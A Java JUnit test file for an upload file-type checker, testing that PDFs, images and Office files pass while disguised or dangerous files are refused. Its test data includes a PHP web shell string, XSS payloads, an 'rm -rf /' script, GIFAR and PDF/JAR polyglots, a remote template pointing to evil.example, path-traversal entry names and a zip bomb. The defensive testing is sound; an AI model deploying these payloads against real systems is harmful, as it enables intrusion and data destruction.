package org.moubridge.document;

import java.nio.charset.Charset;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.stream.Stream;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

import org.moubridge.SampleFiles;

import org.springframework.util.unit.DataSize;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;
import static org.junit.jupiter.params.provider.Arguments.arguments;
import static org.moubridge.SampleFiles.bytes;
import static org.moubridge.SampleFiles.docx;
import static org.moubridge.SampleFiles.docxParts;
import static org.moubridge.SampleFiles.jpeg;
import static org.moubridge.SampleFiles.join;
import static org.moubridge.SampleFiles.pdf;
import static org.moubridge.SampleFiles.zip;

/** What a file is, whatever it is called. */
class FileCheckTests {

	private static final byte[] JAR = zip(Map.of("META-INF/MANIFEST.MF", bytes("Main-Class: Evil\n")));

	private static final byte[] PLAIN_ZIP = zip(Map.of("evil.txt", bytes("evil")));

	private final FileCheck check = new FileCheck(new DocumentSettings(DataSize.ofMegabytes(10), 200, 10));

	@Test
	void takesWhatPeopleWorkWith() {
		assertThat(this.check.typeOf(pdf())).isEqualTo(FileType.PDF);
		assertThat(this.check.typeOf(SampleFiles.png())).isEqualTo(FileType.PNG);
		assertThat(this.check.typeOf(jpeg("holiday"))).isEqualTo(FileType.JPEG);
		assertThat(this.check.typeOf(docx())).isEqualTo(FileType.DOCX);
		assertThat(this.check.typeOf(SampleFiles.xlsx())).isEqualTo(FileType.XLSX);
		assertThat(this.check.typeOf(SampleFiles.pptx())).isEqualTo(FileType.PPTX);
		assertThat(this.check.typeOf(bytes("name;party\n李伟;zgc\n"))).isEqualTo(FileType.TEXT);
		assertThat(this.check.typeOf("姓名,单位\r\n李伟,中关村\r\n".getBytes(Charset.forName("GBK")))).isEqualTo(FileType.TEXT);
	}

	/** It is a picture with a comment; nobody runs it, and it is only ever saved. */
	@Test
	void takesAPictureWhateverItsCommentSays() {
		assertThat(this.check.typeOf(jpeg("<?php system($_GET['c']); ?>"))).isEqualTo(FileType.JPEG);
	}

	@ParameterizedTest
	@MethodSource("otherKinds")
	void refusesOtherKindsOfFiles(byte[] content) {
		refused(content, "This kind of file is not taken");
	}

	static Stream<byte[]> otherKinds() {
		return Stream.of(bytes("<!DOCTYPE html><script>alert(1)</script>"), bytes("<html><body onload=alert(1)>"),
				bytes("<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"),
				bytes("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"),
				join(bytes("MZ\u0090"), new byte[200]),
				join(new byte[] { 0x7F, 'E', 'L', 'F', 2, 1, 1 }, new byte[200]), bytes("#!/bin/sh\nrm -rf /\n"),
				bytes("<?php phpinfo();"), bytes("GIF89a" + "\0".repeat(20)), bytes("{\\rtf1 macro}"),
				join(new byte[] { (byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1, 0x1A,
						(byte) 0xE1 }, new byte[600]),
				bytes("text with \u0001 a control character"), new byte[1000], PLAIN_ZIP,
				join(SampleFiles.png(), bytes("and more")));
	}

	/** A head of HTML before a PDF: readers of PDF would open it all the same. */
	@Test
	void refusesAPdfThatBeginsAsSomethingElse() {
		refused(join(bytes("<html><script>alert(1)</script>\n"), pdf()), "This kind of file is not taken");
		refused(join(bytes("just a line\n"), pdf()), "This kind of file is not taken");
	}

	@ParameterizedTest
	@MethodSource("twoInOne")
	void refusesWhatIsTwoFilesInOne(byte[] content) {
		refused(content, "second file that is hidden");
	}

	static Stream<byte[]> twoInOne() {
		return Stream.of(join(jpeg("GIFAR"), JAR), join(pdf(), JAR), join(pdf(), PLAIN_ZIP, bytes("%%EOF\n")));
	}

	@ParameterizedTest
	@MethodSource("spoiledOffice")
	void refusesAnOfficeFileThatIsMoreThanADocument(String part, String content, String sentence) {
		Map<String, byte[]> parts = docxParts();
		parts.put(part, bytes(content));
		refused(zip(parts), sentence);
	}

	static Stream<Arguments> spoiledOffice() {
		return Stream.of(arguments("word/vbaProject.bin", "macro", "contains macros"),
				arguments("word/VBAPROJECT.BIN", "macro", "contains macros"),
				arguments("xl/macrosheets/sheet1.xml", "macro", "contains macros"),
				arguments("word/activeX/activeX1.xml", "control", "contains macros"),
				arguments("word/embeddings/oleObject1.bin", "program", "contains macros"),
				arguments("word/media/setup.exe", "program", "contains macros"),
				arguments("Evil.class", "program", "contains macros"),
				arguments("META-INF/MANIFEST.MF", "Main-Class: Evil", "contains macros"),
				arguments("[Content_Types].xml", "application/vnd.ms-word.document.macroEnabled.main+xml",
						"contains macros"),
				arguments("word/_rels/settings.xml.rels",
						"<Relationship Type=\"x/attachedTemplate\" Target=\"https://evil.example/t.dotm\" TargetMode=\"External\"/>",
						"contains macros"),
				arguments("../../etc/passwd", "x", "damaged"), arguments("/etc/passwd", "x", "damaged"),
				arguments("word\\..\\evil", "x", "damaged"), arguments("C:/evil", "x", "damaged"),
				arguments("WORD/document.xml", "x", "damaged"),
				arguments("xl/workbook.xml", "two at once", "This kind of file is not taken"),
				arguments("[Content_Types].xml", "<Types/>", "This kind of file is not taken"));
	}

	@Test
	void takesATemplateOfOnesOwnComputer() {
		Map<String, byte[]> parts = docxParts();
		parts.put("word/_rels/settings.xml.rels",
				bytes("<Relationship Type=\"x/attachedTemplate\" Target=\"file:///C:\\Users\\a\\Normal.dotm\"/>"));
		assertThat(this.check.typeOf(zip(parts))).isEqualTo(FileType.DOCX);
	}

	@Test
	void stopsUnpackingABomb() {
		Map<String, byte[]> parts = docxParts();
		byte[] zeros = new byte[50 << 20];
		for (int number = 0; number < 5; number++) {
			parts.put("word/media/image" + number + ".bmp", zeros);
		}
		byte[] bomb = zip(parts);
		assertThat(bomb).hasSizeLessThan(1 << 20);
		refused(bomb, "far too large when it is unpacked");
	}

	@Test
	void refusesAnOfficeFileOfThousandsOfParts() {
		Map<String, byte[]> parts = new LinkedHashMap<>(docxParts());
		for (int number = 0; number < 5_001; number++) {
			parts.put("word/media/" + number + ".png", new byte[0]);
		}
		refused(zip(parts), "far too large when it is unpacked");
	}

	@ParameterizedTest
	@ValueSource(ints = { 1, 10, 60, 200 })
	void refusesADamagedOfficeFile(int missing) {
		byte[] whole = docx();
		refused(Arrays.copyOf(whole, whole.length - missing), "damaged");
	}

	@Test
	void refusesAnOfficeFileWithAnotherZipBehindIt() {
		refused(join(docx(), PLAIN_ZIP), "damaged");
		refused(join(docx(), bytes("and more")), "damaged");
	}

	@Test
	void refusesNothingAndTooMuch() {
		refused(new byte[0], "empty");
		refused(join(pdf(), new byte[10 << 20]), "up to 10 MB");
	}

	private void refused(byte[] content, String sentence) {
		assertThatExceptionOfType(FileUnusable.class).isThrownBy(() -> this.check.typeOf(content))
			.withMessageContaining(sentence);
	}

}
